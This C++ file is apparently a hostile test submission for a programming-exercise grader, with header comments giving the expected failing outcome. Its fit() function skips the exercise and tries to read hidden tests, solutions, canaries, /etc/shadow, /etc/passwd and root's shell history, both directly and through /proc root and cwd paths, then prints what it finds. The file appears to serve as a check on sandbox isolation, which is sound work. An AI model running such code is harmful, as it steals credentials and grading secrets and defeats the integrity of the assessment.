// Knows where tests, solution, neighbours and canaries lie, and opens them, through /proc/1/root and /proc/self/cwd too.
//
// kind: reading
// exercise: 1-cards/01-halves-fit
// outcome: checked
// points: 0
// reasons: wrong answer
// never: TEST_CASE
// never: fit_of_student

#include <fcntl.h>
#include <unistd.h>

#include <fstream>
#include <iostream>
#include <string>

#include "halves_fit.hpp"

bool fit(Half, Half) {
    for (const char* file : {"@NEIGHBOUR@", "@CANARY@", "@BUILD_CANARY@", "@ROOT@/exercises/1-cards/01-halves-fit/solution.cpp",
                             "@ROOT@/exercises/1-cards/01-halves-fit/hidden.cpp", "@BUILD@/judges/1-cards-01-halves-fit", "/root/.bash_history", "/etc/passwd",
                             "/etc/shadow", "/home", "/var/log/dpkg.log"})
        for (const char* way : {"", "/proc/1/root", "/proc/self/root", "/proc/1/cwd", "/proc/self/cwd/../../../../../../..", "/proc/2/root"}) {
            std::ifstream stream(std::string(way) + file);
            std::string beginning(3000, '\0');
            stream.read(beginning.data(), 3000);
            std::cout << beginning.substr(0, static_cast<std::size_t>(stream.gcount()));
        }
    std::cout << std::flush;
    return true;
}
